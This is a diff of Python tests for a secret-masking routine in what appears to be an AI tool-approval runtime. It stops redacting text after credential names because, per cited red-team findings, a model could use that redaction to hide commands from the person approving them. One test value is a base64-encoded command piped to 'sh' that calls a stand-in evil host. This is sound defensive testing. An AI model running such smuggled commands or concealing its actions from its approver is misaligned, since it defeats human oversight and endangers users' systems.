@@ -379,11 +379,6 @@ def test_the_secret_form_patterns_are_linear_by_construction() -> None:
         "_PRIVATE_LINES",
         "_PRIVATE_MAC",
         "_URL",
-        "_HEADER_NAME",
-        "_NAMED_SECRET_START",
-        "_SCHEMED_SECRET_START",
-        "_SECRET_RUN",
-        "_NAME_HINT",
     )
     patterns = {name: getattr(approval, name) for name in names}
     for name, pattern in patterns.items():
@@ -410,7 +405,7 @@ def test_the_secret_form_patterns_are_linear_by_construction() -> None:
         # each name followed by the next: no run is token-shaped (a name ends at a colon)
         ("x-api-key: " * 20_000, None),
         ("authorization:" * 20_000, None),
-        ("token: sk-LIVE-77 " * 20_000, "token: [redacted] " * 20_000),
+        ("token: sk-LIVE-77 " * 20_000, None),  # shown: a name is the model's text
     ],
     ids=[
         "scp-form",
@@ -439,25 +434,14 @@ def test_secret_masking_of_crafted_long_values(value: str, expected: str | None)
     ("value", "expected"),
     [
         # session 31: text after a credential name, in any letter case, was shown in clear
-        (
-            'curl -H "authorization: bearer sk-LIVE-77" https://api.example.com',
-            'curl -H "authorization: bearer [redacted]" https://api.example.com',
-        ),
-        (
-            "Authorization: Basic dXNlcjpwdw==\nAccept: json",
-            "Authorization: Basic [redacted]\nAccept: json",
-        ),
-        ("x-api-key: sk-LIVE-77", "x-api-key: [redacted]"),
-        ("-H 'X-Api-Key:sk-LIVE-77'", "-H 'X-Api-Key:[redacted]'"),
-        (
-            '{"password": "hunter2024", "user": "bob"}',
-            '{"password": "[redacted]", "user": "bob"}',
-        ),
-        ("gh auth token:ghp_AbC123xyz789 done", "gh auth token:[redacted] done"),
-        (  # a JSON document inside a JSON string: the quotes escaped
-            '{\\"authorization\\": \\"bearer sk-LIVE-77\\"}',
-            '{\\"authorization\\": \\"bearer [redacted]\\"}',
-        ),
+        # text after a credential name inside a value is shown (rebreak31 P1, P9): the
+        # name is the model's own text, and what follows it may be what the person judges
+        ('curl -H "authorization: bearer sk-LIVE-77" https://api.example.com', None),
+        ("Authorization: Basic dXNlcjpwdw==\nAccept: json", None),
+        ("x-api-key: sk-LIVE-77", None),
+        ('{"password": "hunter2024", "user": "bob"}', None),
+        ("echo token:aWQ7IGN1cmwgZXZpbC5leGFtcGxl|cut -c7-|base64 -d|sh", None),
+        ("git push --force origin secret:release-2024", None),
         (  # a PuTTY key inside a JSON string: its line breaks are the two characters \n
             "key=PuTTY-User-Key-File-3: ssh-ed25519\\nEncryption: none\\nPublic-Lines: 1"
             "\\nAAAApub\\nPrivate-Lines: 1\\nAAAAsecret\\nPrivate-MAC: 5f2e\\nend",
@@ -488,33 +472,12 @@ def test_secret_masking_of_crafted_long_values(value: str, expected: str | None)
         ("secret:${HOME}", None),  # a variable
     ],
 )
-def test_secrets_after_a_credential_name_inside_text_are_hidden(
-    value: str, expected: str | None
-) -> None:
-    """Expected values written by hand: the secret after ``authorization:`` (its scheme kept),
-    ``x-api-key:``, ``"password":`` in any letter case and quoting, and a PuTTY key whose
-    line breaks are JSON escapes, are ``[redacted]``; colons with no credential name before
-    them are shown as written."""
+def test_secrets_inside_text_are_hidden_by_form_only(value: str, expected: str | None) -> None:
+    """Expected values written by hand: a PuTTY key whose line breaks are JSON escapes, or
+    written in lower case, is ``[redacted]``; text after a credential name inside a value
+    (``authorization:``, ``x-api-key:``, ``"password":``, ``token:``) is shown as written —
+    hiding it let a model hide a command, host, path, account or a base64 script piped to
+    ``sh`` from the person approving it (rebreak31 P1, P9) — and so are ordinary colons."""
     from tooldeck.runtime.policy.approval import _secret_values
 
     assert _secret_values(value) == (value if expected is None else expected)
-
-
-def test_the_name_hint_holds_every_credential_name() -> None:
-    """``_NAME_HINT`` only skips names that cannot be credentials: every credential word
-    (also written as separate words), every credential pair and every shown-not word that
-    :func:`_hidden_name` accepts holds one of its substrings."""
-    from tooldeck.credentials import CREDENTIAL_PAIRS, CREDENTIAL_WORDS
-    from tooldeck.runtime.policy.approval import (
-        SHOWN_NOT_WORDS,
-        _credential_label,
-        _hidden_name,
-    )
-
-    names = [w for w in CREDENTIAL_WORDS if w.isascii()]
-    names += [f"{a}_{b}" for a, b in CREDENTIAL_PAIRS] + list(SHOWN_NOT_WORDS)
-    names += ["mot_de_passe", "seed-phrase", "session_id", "ssh-key", "card_number", "X-Api-Key"]
-    names += ["credit-card", "Proxy-Authorization", "x-auth-token", "newPassword", "pin_code"]
-    for name in names:
-        assert _hidden_name(name), name
-        assert _credential_label(name), name
